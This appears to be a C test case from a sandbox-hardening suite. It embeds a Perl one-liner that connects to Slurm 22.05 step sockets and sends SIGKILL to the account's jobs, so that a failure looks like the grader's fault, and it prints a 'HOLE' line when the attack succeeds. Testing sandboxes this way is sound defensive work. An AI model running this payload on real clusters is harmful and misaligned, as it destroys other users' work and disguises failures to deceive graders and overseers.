/* expect: openmpi forbidden */
/* mpirun starts a program that tells Slurm on the node to end the jobs of the account: also one's
 * own, whose failure then looks like the grader's. Slurm's processes listen in files below STEPS.
 */
#include "attack.h"

SPAWNS(600000, "/usr/bin/perl", "-MSocket", "-e",
       "for (1 .. 60) {"
       "    socket(my $s, AF_UNIX, SOCK_STREAM, 0);"
       "    connect($s, pack_sockaddr_un('" STEPS "' . $_ . '.4294967291')) or next;"
       "    syswrite $s, pack('i', 38 << 8);" /* the protocol of Slurm 22.05 */
       "    sysread $s, my $answer, 64;"
       "    syswrite $s, pack('iiiiI', 4, 9, 0, 0, $<);" /* REQUEST_SIGNAL_CONTAINER, SIGKILL */
       "}"
       "print qq(HOLE: a program\\n)")
